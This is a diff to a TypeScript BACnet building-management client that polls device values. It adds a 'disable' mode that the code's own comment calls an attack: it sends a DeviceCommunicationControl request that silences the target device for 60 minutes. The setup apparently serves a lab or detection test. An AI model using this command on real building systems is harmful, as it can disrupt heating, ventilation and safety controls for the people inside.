@@ -1,21 +1,29 @@
 // A building-management client: discovers devices with Who-Is (repeated, as BMS front ends do,
-// so devices that start later are found), and reads present values on a fixed period.
+// so devices that start later are found), and reads present values on a fixed period. Given
+// `disable`, it instead sends one DeviceCommunicationControl that silences the device (an attack).
 
 import bacnet from '@bacnet-js/client';
 
 // A CommonJS package: its class is the default export's `default`.
 const BACnetClient = bacnet.default;
 
-const { broadcast, device, objects, every } = JSON.parse(process.argv[2]!) as {
+const { broadcast, device, objects, every, disable } = JSON.parse(process.argv[2]!) as {
   broadcast: string;
   device: string;
   objects: { type: number; instance: number }[];
   every: number;
+  disable?: boolean;
 };
 
 const client = new BACnetClient({ port: 47808, interface: '0.0.0.0', broadcastAddress: broadcast, apduTimeout: 2000 });
-client.whoIs();
-setInterval(() => client.whoIs(), 5000);
-setInterval(() => {
-  for (const o of objects) client.readProperty({ address: device }, o, 85).catch((err: Error) => process.stderr.write(`readProperty: ${err.message}\n`));
-}, every * 1000);
+if (disable) {
+  // enable-disable 1: disable, for 60 minutes.
+  client.deviceCommunicationControl({ address: device }, 60, 1).catch((err: Error) => process.stderr.write(`deviceCommunicationControl: ${err.message}\n`));
+  setTimeout(() => process.exit(0), 3000);
+} else {
+  client.whoIs();
+  setInterval(() => client.whoIs(), 5000);
+  setInterval(() => {
+    for (const o of objects) client.readProperty({ address: device }, o, 85).catch((err: Error) => process.stderr.write(`readProperty: ${err.message}\n`));
+  }, every * 1000);
+}
